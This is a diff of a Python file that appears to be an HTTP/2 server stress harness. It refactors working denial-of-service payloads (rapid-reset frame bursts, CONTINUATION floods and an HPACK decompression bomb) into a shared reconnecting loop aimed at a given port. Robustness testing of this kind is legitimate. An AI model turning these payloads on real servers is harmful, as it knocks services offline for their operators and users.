@@ -71,49 +71,36 @@ def drain_until_closed(s, deadline):
     s.close()
 
 
-def rapid_reset(port, until):
-    burst = b"".join(frame(1, 4, 1 + 2 * n, CONNECT) + frame(3, 0, 1 + 2 * n, struct.pack(">I", 8))
-                     for n in range(2000))
+def reconnecting(port, until, attack):
+    """Connections one after another until `until`, each sent `attack` (bytes, or a list of
+    them) and read until the server closes it."""
     closed = 0
     while time.monotonic() < until:
         s = open_h2(port)
         try:
-            s.sendall(burst)
+            for chunk in attack if isinstance(attack, list) else [attack]:
+                s.sendall(chunk)
         except OSError:
             pass
         drain_until_closed(s, until)
         closed += 1
     return f"{closed} connections closed"
+
+
+def rapid_reset(port, until):
+    return reconnecting(port, until, b"".join(
+        frame(1, 4, 1 + 2 * n, CONNECT) + frame(3, 0, 1 + 2 * n, struct.pack(">I", 8))
+        for n in range(2000)))
 
 
 def continuation(port, until):
     filler = frame(9, 0, 1, literal(b"x-filler", b"a" * 1000))
-    closed = 0
-    while time.monotonic() < until:
-        s = open_h2(port)
-        try:
-            s.sendall(frame(1, 0, 1, CONNECT))
-            for _ in range(200):
-                s.sendall(filler)
-        except OSError:
-            pass
-        drain_until_closed(s, until)
-        closed += 1
-    return f"{closed} connections closed"
+    return reconnecting(port, until, [frame(1, 0, 1, CONNECT)] + [filler] * 200)
 
 
 def hpack_bomb(port, until):
     bomb = b"\x40" + literal(b"x-bomb", b"b" * 4000)[1:] + bytes([0xbe]) * 64
-    closed = 0
-    while time.monotonic() < until:
-        s = open_h2(port)
-        try:
-            s.sendall(frame(1, 4, 1, CONNECT + bomb))
-        except OSError:
-            pass
-        drain_until_closed(s, until)
-        closed += 1
-    return f"{closed} connections closed"
+    return reconnecting(port, until, frame(1, 4, 1, CONNECT + bomb))
 
 
 def flood(port, until, unit, connections=200):
